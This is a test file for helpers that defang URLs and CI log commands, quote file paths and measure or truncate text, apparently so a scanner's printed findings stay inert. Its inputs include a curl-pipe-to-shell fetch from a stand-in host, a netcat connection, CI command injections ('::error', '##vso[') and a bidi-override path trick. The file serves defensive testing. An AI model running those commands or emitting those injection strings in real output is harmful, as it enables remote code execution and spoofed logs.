// What is printed can be neither clicked nor obeyed.
import fc from 'fast-check';
import { expect, test } from 'vitest';
import type { Quoted } from '../../src/model/finding.ts';
import { columns } from '../../src/text/columns.ts';
import { cutMiddle } from '../../src/text/cut.ts';
import { defang } from '../../src/text/defang.ts';
import { quotePath } from '../../src/text/quote-path.ts';

test.each([
  ['curl -s https://h.example/i.sh | sh', 'curl -s hxxps://h[.]example/i.sh | sh'],
  ['HTTP://USER:pw@a.b.example:80/x.y', 'HxxP://USER:pw@a[.]b[.]example:80/x.y'],
  ['git+ssh://git@h.example/r.git', 'git+ssh[:]//git@h[.]example/r.git'],
  ['see www.h.example', 'see www[.]h.example'],
  ['nc 192.0.2.7 443', 'nc 192[.]0[.]2[.]7 443'],
  ['::error file=a::b', '[::]error file=a::b'],
  ['say "::add-mask::x"', 'say "[::]add-mask::x"'],
  ['x ##[error]y', 'x [##][error]y'],
  ['##vso[task.x]', '[##]vso[task.x]'],
  ['std::vector and C::D', 'std::vector and C::D'],
  ['## Heading, ~/.ssh/id_rsa, package.json, v1.2.3', '## Heading, ~/.ssh/id_rsa, package.json, v1.2.3'],
])('%s', (text, expected) => {
  const once = defang(text as Quoted);
  expect(once).toBe(expected);
  expect(defang(once)).toBe(once);
});

test('defanging twice changes nothing more, and no link or command is left', () => {
  const piece = fc.constantFrom(
    'http',
    'https',
    '://',
    ':',
    '::',
    '##',
    '[',
    ']',
    'error',
    '.',
    'www.',
    ' ',
    'a',
    '1.2.3.4',
    '<U+200B>',
    '"',
    '/',
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 30 }), pieces => {
      const once = defang(pieces.join('') as Quoted);
      expect(once).not.toMatch(/https?:\/\/|##(vso|teamcity)?\[|^\s*::[a-z]/i);
      expect(defang(once)).toBe(once);
    }),
    { numRuns: 2000 },
  );
});

test.each([
  ['docs/a b.md', 'docs/a b.md'],
  ['a\n::error::x', 'a<U+000A>::error::x'],
  [' a  b\t ', '<U+0020>a<U+0020*2>b<U+0009><U+0020>'],
  ['\u001b[31m\u202egpj.x', '<U+001B>[31m<U+202E>gpj.x'],
])('a path keeps every character, on one line: %j', (path, expected) => {
  expect(quotePath(path)).toBe(expected);
});

test.each([
  ['abc', 3],
  ['e\u0301', 1],
  ['\u6f22\u5b57', 4],
  ['\uff21\uac00', 4],
  ['\u{1f4a5}!', 3],
  ['\u{1f1e9}\u{1f1ea}', 2],
  ['\u0623\u0628', 2],
])('columns of %s', (text, width) => {
  expect(columns(text)).toBe(width);
});

test('a cut keeps both ends, whole characters, and the length asked for', () => {
  const anything = fc
    .array(fc.constantFrom('<U+200B*12>', '\u{1f4a5}', 'a', ' ', '<'), { maxLength: 200 })
    .map(all => all.join(''));
  fc.assert(
    fc.property(anything, fc.integer({ min: 30, max: 200 }), (text, length) => {
      const cut = cutMiddle(text as Quoted, length);
      expect(cut.length).toBeLessThanOrEqual(Math.max(length, 24));
      expect(cut.isWellFormed()).toBe(true);
      if (text.length > length) expect(cut).toMatch(/ \[\.\.\. \d+ more \.\.\.\] /);
      expect(cut.replace(/<U\+200B\*12>/g, '')).not.toMatch(/U\+/);
    }),
  );
});
